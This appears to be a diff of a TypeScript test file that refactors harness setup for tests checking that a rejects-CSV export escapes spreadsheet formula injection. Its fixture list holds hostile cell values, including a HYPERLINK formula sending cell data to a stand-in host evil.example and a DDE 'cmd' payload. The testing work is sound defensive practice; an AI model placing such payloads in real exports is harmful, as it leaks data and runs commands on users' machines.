@@ -5,25 +5,19 @@
  * the original file, so the corrected rows are sent with their own values, not with our apostrophe.
  */
 import { readFile } from 'node:fs/promises';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import { fromSpreadsheetSafe, spreadsheetSafe } from '../../src/ingest/rejects-csv.ts';
 import type { FileResult } from '../../src/ingest/push-file.ts';
 import { rejectLines, reportOf } from '../fixtures/push/push-report.ts';
 import { abuseSize } from '../support/abuse.ts';
-import { ManualClock, drive } from '../support/manual-clock.ts';
-import { pushHarness, type PushHarness } from '../support/push-harness.ts';
+import { drive } from '../support/manual-clock.ts';
+import { usePushHarness, type PushHarness } from '../support/push-harness.ts';
 
-let h: PushHarness;
-let clock: ManualClock;
-beforeAll(async () => {
-  clock = new ManualClock();
-  h = await pushHarness({ clock });
-});
-afterAll(() => h.close());
+const run = usePushHarness();
 
 type Source = Awaited<ReturnType<PushHarness['source']>>;
-const push = (source: Source, name: string, content: string) => drive(clock, h.push(source, name, content));
-const storeRecord = (item: string) => [...h.sandbox.control.world.productStore.table.rows()].find((r) => r.item_id === item);
+const push = (source: Source, name: string, content: string) => drive(run.clock, run.h.push(source, name, content));
+const storeRecord = (item: string) => [...run.h.sandbox.control.world.productStore.table.rows()].find((r) => r.item_id === item);
 const rejectsOf = (result: FileResult) => ('rejectsPath' in result ? result.rejectsPath : null);
 
 /** Item ids a spreadsheet would run, one per formula start, and one that really begins with an apostrophe. */
@@ -31,8 +25,8 @@ const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1;"x")', '+cmd|\' /C calc\
 
 describe('rejects CSV against formula injection', () => {
   it('every cell a spreadsheet would run starts with an apostrophe, and a fix dropped again sends the cells as they were', async () => {
-    const source = await h.source('product_store');
-    const store = h.sandbox.control.state().stores[0];
+    const source = await run.h.source('product_store');
+    const store = run.h.sandbox.control.state().stores[0];
     const quoted = (cell: string) => `"${cell.replaceAll('"', '""')}"`;
     const rows = HOSTILE.map((item) => `${quoted(item)},${store},=1+1`);
     const first = await push(source, 'hostile.csv', `item_id,store_id,current_price\r\n${rows.join('\r\n')}\r\n`);
@@ -57,8 +51,8 @@ describe('rejects CSV against formula injection', () => {
   });
 
   it('a rejected header cell is escaped too, and the fix still finds its column', async () => {
-    const source = await h.source('product_store', { columns: { item_id: '=item', store_id: 'store_id', current_price: 'current_price' } });
-    const store = h.sandbox.control.state().stores[0];
+    const source = await run.h.source('product_store', { columns: { item_id: '=item', store_id: 'store_id', current_price: 'current_price' } });
+    const store = run.h.sandbox.control.state().stores[0];
     const first = await push(source, 'header.csv', `=item,store_id,current_price\r\nHD-1,${store},zwei\r\n`);
     const lines = await rejectLines(rejectsOf(first));
     expect(lines[0]).toBe("line,'=item,store_id,current_price,field,code,message");
